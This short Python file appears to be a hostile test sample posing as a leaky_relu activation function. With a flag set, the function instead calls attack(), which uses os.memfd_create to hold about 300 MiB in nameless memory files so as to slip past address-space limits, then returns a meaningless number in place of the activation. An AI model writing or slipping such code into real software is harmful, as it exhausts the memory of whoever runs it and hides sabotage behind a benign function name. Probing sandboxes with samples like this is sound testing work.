# ruff: noqa
"""Holds memory in files that have no name, past every limit on address space."""

import os

import numpy as np

ATTACK = True


def attack(x):
    held, written = [], 0
    try:
        for _ in range(300):
            held.append(os.memfd_create("bomb"))
            for _ in range(2):
                written += os.write(held[-1], b"x" * (1 << 20))
            if written >= 300 << 20:
                print("HARM: 300 MiB are held in files", flush=True)
                break
    except OSError:
        pass
    return float(written)


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
